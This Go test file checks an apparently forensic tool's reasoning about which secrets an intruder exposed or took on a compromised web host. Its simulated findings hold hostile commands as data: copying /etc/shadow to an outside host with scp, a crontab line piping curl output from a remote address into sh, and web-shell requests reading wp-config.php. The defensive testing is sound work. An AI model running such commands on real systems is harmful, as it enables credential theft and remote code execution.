package story

import (
	"slices"
	"strings"
	"testing"

	"telltale/detect"
	"telltale/evidence"
)

func secret(kind, path, owner string, readers ...string) detect.Finding {
	return detect.Finding{Detection: "D68", What: detect.Secret, Mechanism: kind, Path: path, Account: owner, Accounts: readers, Title: "a secret in " + path, First: at("00:10:00"), Last: at("00:10:00"), For: quote(path)}
}

func read(account, runs, when string, paths ...string) detect.Finding {
	f := detect.Finding{Detection: "D68", What: detect.SecretRead, Account: account, Runs: runs, Views: paths, Mechanism: "history", Method: "", Path: "/home/" + account + "/.bash_history", Title: account + " read secrets", Rung: evidence.Effect, For: quote("/home/" + account + "/.bash_history")}
	if when != "" {
		f.First, f.Last = at(when), at(when)
	}
	return f
}

func fetched(path, source, when string, views ...string) detect.Finding {
	return detect.Finding{Detection: "D77", What: detect.DataFetched, Service: "web", Path: path, Source: source, Sources: []string{source}, Views: views, Title: "the web server gave " + path, Level: detect.High, Rung: evidence.Accepted, Count: 1, First: at(when), Last: at(when), For: quote("/var/log/apache2/access.log")}
}

var shell = detect.Finding{Detection: "D23", What: detect.WebUpload, Title: "an intruder's script: /var/www/html/uploads/x.php", Level: detect.Critical, Rung: evidence.Effect,
	Path: "/var/www/html/uploads/x.php", Account: "www-data", Source: "203.0.113.6", Service: "web", First: at("03:00:00"), Last: at("03:05:00"), Detail: "it runs what a request carries", For: quote("/var/log/apache2/access.log")}

var amyThere = login(detect.Login, "amy", "198.51.100.2", "publickey", "02:59:00", "03:30:00", detect.Access{FirstOfAccount: true})

// lie are the secrets of a host with a web site.
func lie() []detect.Finding {
	key := secret("ssh-key", "/home/amy/.ssh/id_rsa", "amy", "root", "amy")
	key.Detail = "not protected by a passphrase"
	return []detect.Finding{secret("shadow", "/etc/shadow", "root", "root"), secret("wordpress", "/var/www/html/wp-config.php", "root", "root", "www-data"), key, secret("htpasswd", "/srv/.htpasswd", "root", "*"), secret("database-files", "/var/lib/mysql", "mysql", "root", "mysql"), secret("mail", "/var/mail", "root", "*"), secret("dump", "/var/www/html/all.sql", "bob", "*")}
}

// told writes the list of what was exposed: status, "!" for taken, path, account.
func told(s *Story) string {
	var out []string
	for _, x := range s.Exposed {
		w := string(x.Status) + " " + x.Path + " as " + x.As
		if x.Taken {
			w = "taken " + w
		}
		out = append(out, w)
	}
	slices.Sort(out)
	return strings.Join(out, "; ")
}

func TestExposed(t *testing.T) {
	byWeb := "likely /srv/.htpasswd as www-data; likely /var/www/html/all.sql as www-data; likely /var/www/html/wp-config.php as www-data; possible /var/mail as www-data"
	all := "likely /etc/shadow as root; likely /home/amy/.ssh/id_rsa as root; likely /srv/.htpasswd as root; likely /var/lib/mysql as root; likely /var/mail as root; likely /var/www/html/all.sql as root; likely /var/www/html/wp-config.php as root"
	asBob := "likely /srv/.htpasswd as bob; likely /var/www/html/all.sql as bob; possible /var/mail as bob"
	entered := []detect.Finding{guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00")}
	for _, tc := range []struct {
		name, want string
		findings   []detect.Finding
	}{
		{"nobody came", "", []detect.Finding{amyThere}},
		{"only tried", "", []detect.Finding{amyThere, guessing}},
		{"an administrator read them", "", []detect.Finding{amyThere, sudo("amy", "03:01:00"), read("amy", "cat /etc/shadow", "03:02:00", "/etc/shadow")}},
		{"as the web server", byWeb, []detect.Finding{shell}},
		{"without root", asBob, []detect.Finding{guessed("03:00:00", "03:10:00")}},
		{"with root", all, entered},
		{"read in the session", strings.Replace(all, "likely /etc/shadow", "confirmed /etc/shadow", 1), append(slices.Clone(entered), read("bob", "sudo cat /etc/shadow", "03:02:00", "/etc/shadow"))},
		{"read before", all, append(slices.Clone(entered), read("bob", "sudo cat /etc/shadow", "01:02:00", "/etc/shadow"))},
		{"read by another at that time", all, append(slices.Clone(entered), read("amy", "cat /etc/shadow", "03:02:00", "/etc/shadow"))},
		{"read at no time", all, append(slices.Clone(entered), read("bob", "sudo cat /etc/shadow", "", "/etc/shadow"))},
		{"sent away", strings.Replace(all, "likely /etc/shadow", "taken confirmed /etc/shadow", 1), append(slices.Clone(entered), read("bob", "sudo scp /etc/shadow x@203.0.113.9:", "03:02:00", "/etc/shadow"))},
		{"fetched from the site", strings.Replace(byWeb, "likely /var/www/html/all.sql", "taken confirmed /var/www/html/all.sql", 1), []detect.Finding{shell, fetched("/all.sql", "203.0.113.6", "03:04:00")}},
		{"fetched by somebody else", byWeb, []detect.Finding{shell, fetched("/all.sql", "198.51.100.77", "03:04:00")}},
	} {
		s := Build(t.Context(), append(lie(), tc.findings...), full())
		check(t, &s)
		got, want := strings.Split(told(&s), "; "), strings.Split(tc.want, "; ")
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%s:\n got %s\nwant %s", tc.name, strings.Join(got, "; "), strings.Join(want, "; "))
		}
	}
}

func TestAskedOfTheScript(t *testing.T) {
	ask := detect.Finding{Detection: "D68", What: detect.SecretRead, Mechanism: "web", Source: "203.0.113.6", Path: "/uploads/x.php", Runs: "c=cat /var/www/html/wp-config.php", Views: []string{"/var/www/html/wp-config.php"}, Title: "asked", Rung: evidence.Accepted, First: at("03:03:00"), Last: at("03:03:00"), For: quote("/var/log/apache2/access.log")}
	for source, want := range map[string]bool{"203.0.113.6": true, "198.51.100.77": false} {
		ask.Source = source
		s := Build(t.Context(), append(lie(), shell, ask), full())
		check(t, &s)
		if got := slices.ContainsFunc(s.Actions, func(a Action) bool { return strings.Contains(a.What, "wp-config.php") }); got != want {
			t.Errorf("%s: %v", source, got)
		}
	}
	ask.Source, ask.Path = "203.0.113.6", "/index.php" // the site's own
	s := Build(t.Context(), append(lie(), shell, ask), full())
	if slices.ContainsFunc(s.Actions, func(a Action) bool { return strings.Contains(a.What, "wp-config.php") }) {
		t.Error("the site's own script answered")
	}
}

func TestPackedAndFetched(t *testing.T) {
	packed := read("bob", "tar czf /var/www/html/x.tgz /etc/shadow", "03:02:00", "/etc/shadow")
	packed.Method = "packed"
	s := Build(t.Context(), append(lie(), guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), packed, fetched("/x.tgz", "203.0.113.6", "03:04:00")), full())
	check(t, &s)
	if !strings.Contains(told(&s), "taken confirmed /etc/shadow") {
		t.Errorf("%s", told(&s))
	}
	if !slices.ContainsFunc(s.Impact, func(i Impact) bool { return i.What == "exfiltration" }) {
		t.Errorf("no impact: %+v", s.Impact)
	}
}

// TestCopiesDoNotClaim: a copied tree has not the server's modes.
func TestCopiesDoNotClaim(t *testing.T) {
	fs := lie()
	for i := range fs {
		fs[i].Accounts = nil
	}
	s := Build(t.Context(), append(fs, shell), full())
	if got := told(&s); got != "possible /var/www/html/wp-config.php as www-data" {
		t.Error(got)
	}
	if !slices.ContainsFunc(s.Unknown, func(u string) bool { return strings.Contains(u, "7 files with secrets") }) {
		t.Errorf("%q", s.Unknown)
	}
}

func TestBornAfterHeWasGone(t *testing.T) {
	dump, conf := secret("dump", "/srv/all.sql", "root", "*"), secret("environment", "/srv/.env", "root", "*")
	dump.First, conf.First = at("23:00:00"), at("23:00:00")
	s := Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), dump, conf}, full())
	if got := told(&s); got != "possible /srv/.env as bob" {
		t.Error(got)
	}
	left := cron("/etc/cron.d/x", "/var/tmp/.x/y", detect.High, "03:02:00")
	s = Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"), left, dump}, full())
	if got := told(&s); got != "likely /srv/all.sql as root" { // what he left behind goes on
		t.Error(got)
	}
}

func TestTheStepNamesTheSecrets(t *testing.T) {
	steps := func(fs ...detect.Finding) string {
		s := Build(t.Context(), fs, full())
		var out []string
		for i, d := range s.DoNow {
			if d.Order != i+1 {
				t.Errorf("step %d has the number %d", i+1, d.Order)
			}
			out = append(out, d.Step)
		}
		return strings.Join(out, "\n")
	}
	got := steps(append(lie(), guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00"))...)
	if !strings.Contains(got, "/var/www/html/wp-config.php") || strings.Contains(got, "Replace every secret") {
		t.Error(got)
	}
	if got := steps(guessed("03:00:00", "03:10:00"), sudo("bob", "03:01:00")); !strings.Contains(got, "Replace every secret") {
		t.Error(got)
	}
	if got := steps(append(lie(), shell)...); !strings.Contains(got, "wp-config.php") || strings.Contains(got, "/etc/shadow") {
		t.Error(got)
	}
}

func TestManyAlike(t *testing.T) {
	var fs []detect.Finding
	for i := range 40 {
		fs = append(fs, secret("wordpress", "/srv/"+string(rune('a'+i%26))+string(rune('a'+i/26))+"/wp-config.php", "root", "*"))
	}
	s := Build(t.Context(), append(fs, shell), full())
	n := 0
	for _, x := range s.Exposed {
		if strings.Contains(x.What, "at least 32 more") {
			n++
		}
	}
	if len(s.Exposed) != maxAlike || n != 1 {
		t.Errorf("%d, of which %d count the rest", len(s.Exposed), n)
	}
}

func TestNobodyKnowsAsWhom(t *testing.T) {
	bobs := with(cron("/var/spool/cron/crontabs/bob", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00"), func(f *detect.Finding) { f.As = "bob" })
	s := Build(t.Context(), append(lie(), bobs), full())
	check(t, &s)
	if len(s.Exposed) != 0 || !slices.ContainsFunc(s.Unknown, func(u string) bool { return strings.Contains(u, "as which account") }) {
		t.Errorf("%s; %q", told(&s), s.Unknown)
	}
	if got := reached(&s); got != "likely download 203.0.113.9 as bob" {
		t.Error(got)
	}
}

// TestFtpShowsItsFolder: an account's password for ftp alone opens what lies in its folder; whether more, depends on settings.
func TestFtpShowsItsFolder(t *testing.T) {
	in := guessed("03:00:00", "03:10:00")
	in.Service = "vsftpd"
	set := full()
	set.Users = []detect.User{{Name: "bob", Home: "/home/bob", UID: 1001}}
	lie := []detect.Finding{secret("netrc", "/home/bob/.netrc", "bob", "root", "bob"), secret("htpasswd", "/srv/.htpasswd", "root", "*")}
	s := Build(t.Context(), append(lie, in), set)
	check(t, &s)
	if got := told(&s); got != "likely /home/bob/.netrc as bob; possible /srv/.htpasswd as bob" {
		t.Error(got)
	}
	web := shell // which runs as bob
	web.Account = "bob"
	s = Build(t.Context(), append(lie, in, web), set)
	if got := told(&s); got != "likely /home/bob/.netrc as bob; likely /srv/.htpasswd as bob" {
		t.Error(got)
	}
}
